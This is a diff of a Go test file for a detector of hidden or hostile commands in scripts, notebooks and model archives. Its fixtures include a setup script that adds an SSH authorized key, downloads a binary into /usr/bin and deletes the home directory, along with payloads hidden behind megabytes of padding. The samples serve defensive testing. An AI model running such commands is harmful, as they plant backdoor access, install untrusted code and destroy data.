@@ -62,11 +62,12 @@ func TestDetector(t *testing.T) {
 	add("a script that sets a machine up", "boot.sh", []byte("echo 'export A=1' >> ~/.bashrc\ncat key >> ~/.ssh/authorized_keys\ncurl -o /usr/bin/k https://example.org/k\nchmod +x /usr/bin/k\nrm -rf ~/*\n"))
 	add("a notebook", "a.ipynb", notebook("!pip install x", "%cd x\nprint(1)"))
 	add("no Python", "x.py", []byte("exec(((\n"))
-	add("a long script", "configure", []byte("#!/bin/sh\n"+strings.Repeat("curl x | wget y\n", 60_000)))
 	add("other text", "x.txt", []byte(plain))
 	cases = append(cases, []detectortest.Case{
 		{Name: "behind a picture of 3 MiB", File: "a.ipynb", Data: notebook("x = '"+strings.Repeat("QUJD", 3<<18)+"'", "!"+plain), Want: []string{hidden}, AnyPrefix: text, Named: "notebook", Heavy: true},
 		{Name: "behind a table of 3 MiB", File: "a.py", Data: []byte("x = '" + strings.Repeat("QUJD", 3<<18) + "'\nimport os\nos.system('" + plain + "')\n"), Want: []string{hidden}, AnyPrefix: text, Named: "source", Heavy: true},
+		{Name: "behind 3 MiB of comments", File: "a.sh", Data: []byte(strings.Repeat("# "+strings.Repeat("x", 1<<10)+"\n", 3<<10) + plain), Want: []string{hidden}, AnyPrefix: text, Heavy: true},
+		{Name: "behind more commands than are followed", File: "a.sh", Data: []byte(strings.Repeat("curl x | wget y\n", 60_000) + plain), Unread: true, AnyPrefix: text, Named: "source", Heavy: true},
 		{Name: "in an archive", File: "m.zip", Data: ziptest.Files("a/train.py", "import os\nos.system('"+plain+"')\n"), Want: []string{hidden}},
 		{Name: "in an archive, an installer", File: "m.zip", Data: ziptest.Files("a/b.sh", tls), Want: []string{down}},
 		{Name: "in an archive of TorchServe", File: "m.mar", Data: ziptest.Files("setup.sh", plain), Want: []string{hidden}},
